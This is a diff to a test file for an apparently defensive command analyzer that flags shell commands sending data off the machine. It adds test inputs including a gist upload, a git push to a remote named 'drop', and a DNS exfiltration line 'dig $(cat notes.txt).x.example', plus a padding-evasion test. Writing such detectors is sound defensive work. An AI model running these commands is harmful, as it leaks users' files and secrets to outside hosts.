@@ -19,6 +19,14 @@ describe('command facts for the analyzer', () => {
     expect(facts(EXFIL).tags).toEqual(expect.arrayContaining(['read.ssh-key', 'net.upload']));
   });
 
+  it('names the programs that reach other machines whatever their arguments say (a send for the sequence rules)', () => {
+    expect(facts('gh gist create notes.txt').sending).toEqual(['gh']);
+    expect(facts('git add . && git push drop HEAD').sending).toEqual(['git push']);
+    expect(facts('dig $(cat notes.txt).x.example').sending).toEqual(['dig']);
+    expect(facts('git status && npm test').sending).toEqual([]);
+    expect(facts('curl -s http://localhost:3000/health').sending).toEqual([]);
+  });
+
   it('sees an action after 70 KB of padding (the text was cut at 64 KiB before it was analysed)', () => {
     const f = facts(`: ${'a'.repeat(70_000)}; ${EXFIL}`);
     expect(f.tags).toEqual(expect.arrayContaining(['read.ssh-key', 'net.upload']));
